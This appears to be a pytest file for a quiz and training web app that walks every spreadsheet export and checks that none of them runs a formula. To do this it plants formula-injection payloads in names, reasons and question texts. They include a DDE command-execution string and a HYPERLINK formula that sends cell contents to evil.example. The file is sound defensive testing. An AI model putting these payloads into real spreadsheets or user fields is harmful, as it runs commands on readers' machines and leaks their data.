"""No export runs a formula: every spreadsheet the app serves, walked from the URL map, with
hostile names, positions, class names, reasons and question texts in it.

Which responses are spreadsheets is found, not assumed: every GET rule is requested as admin with
?format=xlsx, ?format=csv and without, and each XLSX/CSV response counts. EXPORTS must list
exactly those, so a new export is noticed (and checked here the moment it exists).
"""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from quizapp.db import write_transaction
from quizapp.exports import CSV_MIME, XLSX_MIME
from quizapp.models import Cohort, QuestionVersion, User

from ..route_matrix import MATRIX
from ..secworld import build_world, fill

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "\t=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: (rule, format) of every spreadsheet download; None: the rule itself is the file.
EXPORTS = {
    ("/reports", "xlsx"), ("/reports", "csv"),
    ("/reports/wards/<code>", "xlsx"), ("/reports/wards/<code>", "csv"),
    ("/reports/trainees/<int:user_id>", "xlsx"), ("/reports/trainees/<int:user_id>", "csv"),
    ("/reports/topics/<int:number>", "xlsx"), ("/reports/topics/<int:number>", "csv"),
    ("/admin/certificates", "xlsx"), ("/admin/certificates", "csv"),
    ("/admin/audit", "xlsx"), ("/admin/audit", "csv"),
    ("/admin/classes/<int:cohort_id>", "xlsx"), ("/admin/classes/<int:cohort_id>", "csv"),
    ("/admin/users/slips/<token>.csv", None),
}  # fmt: skip


def _hostile_world(app, make, client_of):
    names = dict(zip(("trainee", "other", "wm_own", "wm_other", "instructor", "admin"), PAYLOADS, strict=False))
    world = build_world(app, make, names=names)
    with app.app_context(), write_transaction() as s:
        s.get(User, world.users["trainee"].id).position = "@SUM(1)"
        s.get(Cohort, world.values["cohort_id"]).name = PAYLOADS[4]
        for version in s.scalars(select(QuestionVersion)):
            version.text = PAYLOADS[0]
    admin = client_of(world)
    code = world.values["certificate_code"]
    revoked = admin.post(
        f"/admin/certificates/{code}/revoke", data={"revoke-reason": PAYLOADS[1], "revoke-confirm": "y"}
    )
    assert revoked.status_code == 302
    # Slips last: they give the Hàm Rồng accounts (never logged in) new passwords.
    made = admin.post("/admin/users/slips", data={"ward": "ham-rong", "cohort": "", "confirm": "y"})
    world.values["token"] = made.location.rsplit("/", 1)[1]
    return world, admin


def _spreadsheets(admin, world) -> dict[tuple, tuple[str, bytes]]:
    found = {}
    for row in MATRIX:
        if row.method != "GET" or row.rule.startswith(("/static", "/certificates/static")):
            continue
        url = fill(row.rule, world.values, row.path)
        for fmt in (None, "xlsx", "csv"):
            response = admin.get(url, query_string={"format": fmt} if fmt else None)
            kind = response.mimetype
            if kind in (XLSX_MIME, CSV_MIME.split(";")[0]):
                found[row.rule, fmt] = (kind, response.get_data())
            response.close()
            if (row.rule, None) in found:
                break  # the rule is a file whatever ?format= says
    return found


def _xlsx_problems(data: bytes) -> tuple[list[str], set[str]]:
    problems, texts = [], set()
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}")
                elif isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(FORMULA_STARTS) and not cell.quotePrefix:
                        problems.append(f"{ws.title}!{cell.coordinate} {cell.value!r} lacks the quote prefix")
    return problems, texts


def _is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def _csv_problems(data: bytes) -> tuple[list[str], set[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV without the UTF-8 byte-order mark"
    problems, texts = [], set()
    for n, row in enumerate(csv.reader(io.StringIO(data.decode("utf-8-sig"))), start=1):
        for field in row:
            texts.add(field)
            if field.startswith(FORMULA_STARTS) and not _is_number(field):
                problems.append(f"line {n}: {field!r} would run as a formula")
    return problems, texts


def test_every_spreadsheet_export_is_listed_and_none_holds_a_formula(app, make):
    from ..secworld import login

    def client_of(world):
        client = app.test_client()
        login(client, world.users["admin"].username)
        return client

    world, admin = _hostile_world(app, make, client_of)
    found = _spreadsheets(admin, world)
    assert set(found) == EXPORTS, (
        f"spreadsheet exports not in EXPORTS: {sorted(set(found) - EXPORTS, key=str)}; "
        f"listed but not found: {sorted(EXPORTS - set(found), key=str)}"
    )
    problems, xlsx_texts, csv_texts = [], set(), set()
    for (rule, fmt), (kind, data) in sorted(found.items(), key=str):
        bad, texts = _xlsx_problems(data) if kind == XLSX_MIME else _csv_problems(data)
        problems += [f"{rule} [{fmt}] {p}" for p in bad]
        (xlsx_texts if kind == XLSX_MIME else csv_texts).update(texts)
    assert not problems, "\n".join(problems)
    # Still readable: the text is there as written (XLSX) or behind one apostrophe (CSV).
    for payload in PAYLOADS:
        assert any(payload in t for t in xlsx_texts), f"{payload!r} is in no XLSX export"
        assert any(t.startswith("'" + payload) or ("'" + payload) in t for t in csv_texts), payload
